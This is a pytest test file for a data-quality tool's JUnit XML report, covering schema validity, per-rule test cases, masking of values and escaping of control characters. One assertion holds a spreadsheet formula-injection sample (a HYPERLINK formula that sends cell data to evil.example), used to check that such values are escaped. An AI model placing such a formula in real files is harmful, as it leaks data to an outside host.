"""The JUnit XML report: valid against the JUnit schema, one test case per rule, masked samples."""

from __future__ import annotations

import dataclasses
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path

import polars as pl
import pytest
import xmlschema
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.reports.fixture_extras import with_extras
from tests.reports.report_fixture import build_result, normalise
from tests.reports.test_report_masking import RAW_FRAGMENTS
from veracity.reports import junit, render
from veracity.results import AuditResult, Status

Golden = Callable[[str, str], None]

SCHEMA = xmlschema.XMLSchema(Path(__file__).parent / "schemas" / "junit.xsd")


def _suite(text: str) -> ET.Element:
    root = ET.fromstring(text)
    assert root.tag == "testsuites"
    suites = root.findall("testsuite")
    assert len(suites) == 1
    return suites[0]


def _cases(text: str) -> dict[str, ET.Element]:
    return {case.get("name", ""): case for case in _suite(text).iter("testcase")}


def test_junit_matches_golden(audit_result: AuditResult, golden: Golden) -> None:
    golden("junit.xml", normalise(render(audit_result, "junit"), audit_result))


def test_volatile_fields_are_the_only_difference_between_runs(audit_result: AuditResult) -> None:
    other = build_result(started_at="1999-01-01T00:00:00Z")
    assert normalise(render(other, "junit"), other) == normalise(render(audit_result, "junit"), audit_result)


@pytest.mark.parametrize("reveal", [False, True])
def test_valid_against_the_junit_schema(audit_result: AuditResult, reveal: bool) -> None:
    SCHEMA.validate(junit.render(audit_result, reveal_values=reveal))
    SCHEMA.validate(junit.render(with_extras(audit_result), reveal_values=reveal))


def test_schema_is_not_a_rubber_stamp(audit_result: AuditResult) -> None:
    text = junit.render(audit_result)
    assert not SCHEMA.is_valid(text.replace('tests="7"', 'tests="seven"', 1))
    assert not SCHEMA.is_valid(text.replace("<testcase name=", "<testcase title=", 1))
    assert not SCHEMA.is_valid(text.replace("<properties>", "<properties><weight />", 1))


def test_declaration_and_single_newline(audit_result: AuditResult) -> None:
    text = junit.render(audit_result)
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<testsuites ')
    assert text.endswith("</testsuites>\n")


def test_one_uniquely_named_testcase_per_rule(audit_result: AuditResult) -> None:
    cases = list(_suite(junit.render(audit_result)).iter("testcase"))
    assert [c.get("name") for c in cases] == [
        "email-valid[email]",
        "phone-valid[phone]",
        "customer-id-required[customer_id]",
        "customer-id-unique[customer_id]",
        "street-format[street]",
        "signup-not-future[signup_date]",
        "consent-before-contact[consent,last_contact]",
    ]
    assert [c.get("classname") for c in cases] == [
        f"veracity.{r.dimension.value}" for r in audit_result.rules
    ]


def test_testcase_name_without_fields(audit_result: AuditResult) -> None:
    assert junit.testcase_name(dataclasses.replace(audit_result.rules[0], fields=[])) == "email-valid"


def test_suite_attributes(audit_result: AuditResult) -> None:
    text = junit.render(audit_result)
    suite = _suite(text)
    assert suite.get("name") == "rules/customers.yaml"
    assert {k: suite.get(k) for k in ("tests", "failures", "errors", "skipped", "time")} == {
        "tests": "7",
        "failures": "2",
        "errors": "0",
        "skipped": "1",
        "time": "3.482",
    }
    assert suite.get("timestamp") == audit_result.run.started_at
    root = ET.fromstring(text)
    assert (root.get("tests"), root.get("failures"), root.get("errors")) == ("7", "2", "0")


def test_properties_carry_score_and_gate(audit_result: AuditResult) -> None:
    properties = {p.get("name"): p.get("value") for p in _suite(junit.render(audit_result)).iter("property")}
    assert properties["score"] == "88.47"
    assert properties["gate"] == "fail"
    assert properties["gate.min_score"] == "95.00"
    assert properties["score.consent"] == "75.00"
    assert "score.timeliness" not in properties  # not run: left out rather than ""
    assert properties["rule_file"] == "rules/customers.yaml"
    assert properties["records"] == "1440"


def test_failed_error_rule_is_a_failure(audit_result: AuditResult) -> None:
    case = _cases(junit.render(audit_result))["email-valid[email]"]
    failure = case.find("failure")
    assert failure is not None
    assert (
        failure.get("message")
        == "pass rate 98.54% is below the threshold 99.00% (21 of 1,436 records failed)"
    )
    assert failure.get("type") == "email"
    body = failure.text or ""
    assert "rule: rules/customers.yaml:12:5" in body
    assert "first 5 failing records (masked values):" in body
    assert (
        "  exports/customers.csv:14  key C-000012  value 'j***@e***.com'  domain does not accept e-mail"
        in body
    )
    assert "… and 16 more in the findings file" in body


def test_warning_passes_with_a_note(audit_result: AuditResult) -> None:
    case = _cases(junit.render(audit_result))["phone-valid[phone]"]
    assert case.find("failure") is None
    assert case.find("skipped") is None
    out = case.find("system-out")
    assert out is not None
    assert out.text is not None
    assert out.text.startswith("warning: pass rate 97.32% is below the threshold 98.00% (37 of 1,380")
    assert "a warning does not fail the quality gate" in out.text
    assert "exports/customers.csv:8  key C-000006  value '+49 *** *** 00'" in out.text


def test_rule_that_evaluated_nothing_is_skipped(audit_result: AuditResult) -> None:
    skipped = _cases(junit.render(audit_result))["signup-not-future[signup_date]"].find("skipped")
    assert skipped is not None
    assert (
        skipped.get("message")
        == "no record was evaluated (when: country == 'DE' and signup_date is not null); "
        "the rule is left out of the scores"
    )


def test_passing_rules_are_empty_testcases(audit_result: AuditResult) -> None:
    case = _cases(junit.render(audit_result))["customer-id-unique[customer_id]"]
    assert list(case) == []


def test_failures_count_matches_the_gate(audit_result: AuditResult) -> None:
    suite = _suite(junit.render(audit_result))
    failed = [r for r in audit_result.rules if r.status is Status.FAIL]
    assert len(suite.findall("testcase/failure")) == len(failed) == int(suite.get("failures", "-1"))
    out = suite.find("system-out")
    assert out is not None
    assert out.text is not None
    assert out.text.startswith(
        "score 88.47 / 100; quality gate FAIL\n- score 88.47 is below the minimum 95.00\n"
    )


def test_no_raw_value_by_default(audit_result: AuditResult) -> None:
    text = junit.render(with_extras(audit_result))
    assert not [fragment for fragment in RAW_FRAGMENTS if fragment in text]


def test_revealed_control_characters_keep_the_xml_valid(audit_result: AuditResult) -> None:
    text = junit.render(audit_result, reveal_values=True)
    assert "\x1b" not in text
    out = _cases(text)["street-format[street]"].find("system-out")
    assert out is not None
    assert out.text is not None
    assert "value '\\x1b[31mRed Street 1\\x1b[0m'" in out.text
    assert "value 'Am Markt 3\\nApt 4'" in out.text
    assert """value '=HYPERLINK("http://evil.example/?d="&A1,"Click")'""" in out.text


# Any text at all: every control character, U+FFFE/U+FFFF and, where no polars column has to
# hold it (polars strings are UTF-8), lone surrogates; XML 1.0 can carry none of these, not
# even as character references.
# Text a polars column can hold: hypothesis draws lone surrogates unless told not to, and polars
# (UTF-8) would turn one into U+FFFD, so the findings would no longer name the rule drawn.
_TEXT = st.text(
    st.characters(min_codepoint=0, max_codepoint=0x10FFFF, exclude_categories=("Cs",)), max_size=30
)
_ANY_TEXT = st.text(
    st.characters(min_codepoint=0, max_codepoint=0x10FFFF, exclude_categories=()), max_size=30
)
_BASE = build_result(started_at="2024-06-30T00:00:00Z")
_BASE_FAILURE_LINES = len(
    (ET.fromstring(junit.render(_BASE)).findtext("testsuite/testcase/failure") or "").splitlines()
)


@settings(max_examples=40, deadline=None)
@given(rule_id=_TEXT, description=_ANY_TEXT, value=_TEXT)
def test_any_text_gives_a_valid_document(rule_id: str, description: str, value: str) -> None:
    rule_id = rule_id or "x"
    rules = [dataclasses.replace(_BASE.rules[0], id=rule_id, description=description), *_BASE.rules[1:]]
    first = pl.col("rule") == _BASE.rules[0].id
    findings = _BASE.findings.with_columns(
        rule=pl.when(first).then(pl.lit(rule_id)).otherwise(pl.col("rule")),
        value=pl.when(first).then(pl.lit(value)).otherwise(pl.col("value")),
    )
    text = junit.render(dataclasses.replace(_BASE, rules=rules, findings=findings), reveal_values=True)
    SCHEMA.validate(text)
    failure = next(_suite(text).iter("testcase")).find("failure")
    assert failure is not None
    assert failure.text is not None
    # Line breaks in the id, description or value are shown as escapes: one line each still.
    assert len(failure.text.splitlines()) == _BASE_FAILURE_LINES + (1 if description else 0) - (
        1 if _BASE.rules[0].description else 0
    )
